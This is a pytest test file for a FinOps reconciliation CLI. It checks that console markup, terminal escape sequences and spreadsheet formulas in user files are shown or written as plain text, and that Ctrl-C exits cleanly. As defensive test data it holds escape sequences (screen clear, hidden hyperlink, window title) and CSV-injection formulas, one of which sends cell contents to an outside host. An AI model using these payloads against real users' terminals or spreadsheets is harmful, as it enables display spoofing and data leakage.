"""User text is text: a ``[/...]``, ``[red]`` or ``[link=...]`` in a plan line, a file name, an option name or
a bill value is shown as typed, never read as console markup (it crashed the error printer, or restyled it);
Ctrl-C at any moment, start-up included, ends with exit 130 and one line."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

import pytest

import finops

from .desk import MONTH, REPO, Case, bill, check, plan, reconcile_argv, write_plan

MARKUP = ("[/x]", "[/]", "[red]", "[link=https://example.com]", "[bold red]")


def _plan_with(folder: Path, cell: str) -> Path:
    return write_plan(folder / "plan.xlsx", budget=[(MONTH, cell, "cc", "OPEX", "AWS", cell, "USD", None)],
                      mapping=[(1, cell, "AWS", "", "", "", "", "", "")])


def _cases() -> dict[str, Case]:
    cases: dict[str, Case] = {}
    for text in MARKUP:
        cases[f"plan line and amount {text}"] = Case(
            lambda d, t=text: reconcile_argv(d, _plan_with(d, t), bill(d)), names=("plan.xlsx", "cell F3", text))
        cases[f"bill file name {text}"] = Case(
            lambda d, t=text: reconcile_argv(d, plan(d), d / f"may{t}.csv"), names=(Path(f"may{text}.csv").name, "not found"))
        cases[f"bill amount {text}"] = Case(
            lambda d, t=text: reconcile_argv(d, plan(d), bill(d, BilledCost=t)),
            names=("bill.csv", "row 2", "column BilledCost", text))
        cases[f"option name {text}"] = Case(
            lambda d, t=text: ["reconcile", f"--plan{t}", plan(d)], names=(f"--plan{text}".split("=")[0],))  # click splits at "="
        cases[f"usage value {text}"] = Case(
            lambda d, t=text: reconcile_argv(d, plan(d), bill(d), extra=["--usage", _usage(d, t)]),
            names=("usage.csv", "row 2", text))
    return cases


#: Terminal escape sequences: clear the screen, a hidden hyperlink (OSC 8), a window title, a C1 CSI.
ESCAPES = ("\x1b[2J", "\x1b]8;;http://example.com\x1b\\", "\x1b]0;owned\x07", "\x9b31m")


def _escape_cases() -> dict[str, Case]:
    """A file name or a bill value holding an escape sequence is shown as text (``\\x1b...``), never sent to the
    terminal (was: printed raw, the file name clearing the screen)."""
    cases: dict[str, Case] = {}
    for text in ESCAPES:
        shown = text.encode("unicode_escape").decode().replace("\\\\", "\\")
        cases[f"bill file name with {shown}"] = Case(
            lambda d, t=text: reconcile_argv(d, plan(d), d / f"may{t}.csv"),
            names=("not found", "\\x"), hidden=(text, "\x1b", "\x07", "\x9b"))
        cases[f"usage value with {shown}"] = Case(
            lambda d, t=text: reconcile_argv(d, plan(d), bill(d), extra=["--usage", _usage(d, t)]),
            names=("usage.csv", "row 2"), hidden=("\x1b", "\x07", "\x9b"))
    return cases


def _usage(folder: Path, text: str) -> Path:
    path = folder / "usage.csv"
    path.write_text(f"Month,PlanLine,ActualMTokens\n{MONTH},gpu,{text}\n")
    return path


CASES = {**_cases(), **_escape_cases()}


@pytest.mark.parametrize("name", sorted(CASES))
def test_user_text_is_shown_as_typed(name, tmp_path, capsys, monkeypatch):
    check(CASES[name], tmp_path, capsys, monkeypatch)


#: Seconds after the interpreter's own start-up at which Ctrl-C arrives: during the imports of the command
#: line, the plan's reading, the bills' scan, the writing. Python's start-up itself (``site``, before any
#: line of the product runs) prints its own traceback and cannot be handled by the product.
INTERRUPT_AFTER_S = (0.0, 0.1, 0.3, 0.8, 1.5, 2.0, 2.5, 3.0, 3.5)


@pytest.fixture(scope="module")
def python_start_s() -> float:
    """How long this interpreter takes to start, before the product's first line (measured, loaded machine)."""
    started = time.monotonic()
    subprocess.run([sys.executable, "-c", "pass"], check=True)
    return time.monotonic() - started


@pytest.mark.parametrize("delay", INTERRUPT_AFTER_S)
def test_ctrl_c_at_any_moment_exits_130_with_one_line(delay, python_start_s, tmp_path):
    argv = [str(a) for a in reconcile_argv(tmp_path, plan(tmp_path), bill(tmp_path, rows=20_000))]
    before = {p.name for p in tmp_path.iterdir()}
    process = subprocess.Popen([sys.executable, "-m", "finops", *argv], cwd=REPO, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, env={**os.environ, "COLUMNS": "200"})
    time.sleep(1.5 * python_start_s + delay)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=120)
    if process.returncode == 0:
        pytest.skip(f"the run ended before {delay} s")
    assert process.returncode == 130, err
    assert "Traceback" not in err
    assert [line for line in err.splitlines() if line.strip()] == [err.strip()], err
    assert "interrupted" in err
    assert {p.name for p in tmp_path.iterdir()} == before, "an interrupted run left files"


SCRIPT = Path(sys.executable).parent / "finops"  # the console script pip wrote for [project.scripts]
PACKAGE = Path(finops.__file__).resolve().parent  # where the script imports it from (editable or installed)
ENTRY = PACKAGE / "__main__.py"
#: The entry's lines before its Ctrl-C handler is in place (a signal there is still Python's).
BEFORE_HANDLER = next(n for n, line in enumerate(ENTRY.read_text().splitlines(), 1) if "SIGINT, _stop_now)" in line)
_FRAME = re.compile(r'^\s*File "(?P<file>[^"]+)", line (?P<line>\d+)', re.MULTILINE)


def _pythons_own(err: str) -> bool:
    """Whether a traceback is Python's own start-up: every frame in the interpreter's start-up (``<frozen ...>``,
    the standard library, the ``.pth`` code of the editable install), in the script's lines up to its import of
    the entry, in ``finops/__init__.py``, or in the entry's lines before its handler. A frame anywhere else
    (the script's later lines, the entry past its handler, the command line, typer, rich) is a Ctrl-C the
    product missed."""
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    for match in _FRAME.finditer(err):
        file, line = match["file"], int(match["line"])
        path = Path(file)
        start_up = (file.startswith("<") or path == PACKAGE / "__init__.py"
                    or path.name in ("sitecustomize.py", "usercustomize.py")
                    or (stdlib in path.parents and "site-packages" not in path.parts)
                    or ("site-packages" in path.parts and path.name.startswith("__editable__"))
                    or "_distutils_hack" in path.parts)
        if not (start_up or (path == SCRIPT and line <= 5) or (path == ENTRY and line <= BEFORE_HANDLER)):
            return False
    return True


def test_the_entry_handles_ctrl_c_once_imported_and_imports_nothing_else():
    """The console script imports the entry, then runs lines of its own before calling ``main``: the handler is in
    place when the import returns, and the import loads nothing but the package and the entry (the command
    line, typer and rich come in ``main``)."""
    probe = ("import sys; before = set(sys.modules); import finops.__main__ as entry; import signal; "
             "print(signal.getsignal(signal.SIGINT) is entry._stop_now); "
             "print(' '.join(sorted(set(sys.modules) - before - {'signal'})))")
    done = subprocess.run([sys.executable, "-c", probe], cwd=REPO, capture_output=True, text=True, check=True)
    handler, loaded = done.stdout.splitlines()
    assert handler == "True", done.stdout
    assert set(loaded.split()) <= {"finops", "finops.__main__", "_signal"}, loaded


def test_ctrl_c_from_the_console_scripts_first_moments_is_handled(tmp_path):
    """SIGINT at moments spread over the ``finops`` script's start (every 1 ms from half the interpreter's
    start-up to twice it, where the script's lines and the entry's import run): once the entry's first lines
    have run, exit 130 and one line; before them, only Python's own start-up may answer (its traceback, or
    the process ended by the signal). Until the handler moved to the entry's first lines, a Ctrl-C during the
    script's own lines after the import (its ``re.sub`` of ``argv[0]``) printed a traceback from the script."""
    if not SCRIPT.exists():
        pytest.skip("the finops console script is not installed in this environment")
    started = time.monotonic()
    subprocess.run([sys.executable, "-c", "pass"], check=True)
    start_s = time.monotonic() - started
    handled, missed = 0, []
    for step in range(int(start_s * 1500) + 40):
        process = subprocess.Popen([str(SCRIPT), "prices", "--help"], cwd=tmp_path, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, text=True)
        time.sleep(start_s / 2 + step / 1000)
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
        if process.returncode == 130:
            handled += 1
            assert err == "error: interrupted (Ctrl-C) while starting; nothing was written\n" or (
                [line for line in err.splitlines() if line.strip()] == [err.strip()] and "interrupted" in err), err
        elif process.returncode == 0 or (process.returncode in (1, -signal.SIGINT) and _pythons_own(err)):
            continue
        else:
            missed.append((round(start_s / 2 + step / 1000, 3), process.returncode, err))
    assert not missed, missed
    assert handled, "no moment fell after the entry's first lines"


@pytest.mark.parametrize("text", MARKUP)
def test_a_plan_line_with_markup_prints_as_typed_in_the_summary(text, tmp_path, capsys, monkeypatch):
    def literal(folder: Path, out: str, err: str) -> None:
        assert f"{text}gpu" in out.replace("\n", ""), out

    line = f"{text}gpu"
    argv = ["reconcile", "--plan", None, "--month", MONTH, "--bills", None, "--out", tmp_path / "out"]

    def build(d: Path) -> list[object]:
        argv[2] = write_plan(d / "plan.xlsx", budget=[(MONTH, line, "cc", "OPEX", "AWS", 100, "USD", None)],
                             mapping=[(1, line, "AWS", "", "", "", "", "", "")])
        argv[6] = bill(d)
        return argv

    monkeypatch.setenv("COLUMNS", "200")
    check(Case(build, exit=0, may_write=("out",), verify=literal), tmp_path, capsys, monkeypatch)


#: Bill texts a spreadsheet would read as a formula (OWASP "CSV Injection"): an account name, a region, a tag.
FORMULAS = ('=HYPERLINK("http://example.com/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1")


@pytest.mark.parametrize("text", FORMULAS)
def test_bill_text_in_the_unmapped_csv_stays_text_in_a_spreadsheet(text, tmp_path, capsys, monkeypatch):
    """A formula-like text of the bill reaches the unmapped-charges CSV behind a ``'``, as text; the amounts stay
    numbers (was: written as the bill had it, a formula once the CSV is opened in Excel)."""
    import csv

    def quoted(folder: Path, out: str, err: str) -> None:
        with (folder / "unmapped.csv").open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert [(r["SubAccount"], r["RegionId"], r["EffectiveCost"]) for r in rows] == [
            ("'" + text, "'" + text, "30.0000000000")], rows

    def build(d: Path) -> list[object]:
        return reconcile_argv(d, plan(d, mapping=[(1, "gpu", "Azure", "", "", "", "", "", "")]),
                              bill(d, SubAccountName=text, SubAccountId=text, RegionId=text),
                              extra=["--unmapped-csv", d / "unmapped.csv"])

    check(Case(build, exit=0, may_write=("out", "unmapped.csv"), verify=quoted), tmp_path, capsys, monkeypatch)
